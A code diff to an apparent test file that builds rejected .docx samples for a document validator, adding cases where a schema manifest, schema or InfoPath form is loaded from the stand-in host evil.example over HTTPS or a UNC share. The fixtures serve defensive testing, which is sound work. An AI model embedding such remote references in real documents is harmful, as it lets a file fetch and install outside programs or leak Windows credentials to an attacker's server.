@@ -1,6 +1,13 @@
 import { text } from '../sample-files.ts';
 import { corpusFile, refused } from './corpus-file.ts';
-import { makeDocx, oldDrawing, typeOfPart, wordPart } from './make-docx.ts';
+import {
+  customForm,
+  makeDocx,
+  oldDrawing,
+  schemaLibrary,
+  typeOfPart,
+  wordPart,
+} from './make-docx.ts';
 import { makeShape, makeTheme } from './make-theme.ts';
 
 const STYLES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles';
@@ -76,6 +83,24 @@ export const docxThatRefer = [
             '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><HyperlinkBase>\\\\evil.example\\a</HyperlinkBase></Properties>',
         },
       }),
+  ),
+  refused(
+    'manifest-of-smart-document.docx',
+    'A schema with a manifest on a server, by which a smart document installs programs',
+    'Schemas and manifests have to be inside',
+    () => makeDocx({ parts: schemaLibrary('sl:manifestLocation="https://evil.example/a.xml"') }),
+  ),
+  refused(
+    'schema-on-share.docx',
+    'A schema on a server',
+    'Schemas and manifests have to be inside',
+    () => makeDocx({ parts: schemaLibrary('sl:schemaLocation="\\\\evil.example\\a.xsd"') }),
+  ),
+  refused(
+    'form-on-server.docx',
+    'A form that Word loads from a server and shows above the text (InfoPath, customXsn)',
+    'Forms have to be inside',
+    () => makeDocx(customForm('https://evil.example/a.xsn')),
   ),
   refused('embedded-object.docx', 'An object of another program', 'Objects are no known part', () =>
     makeDocx({
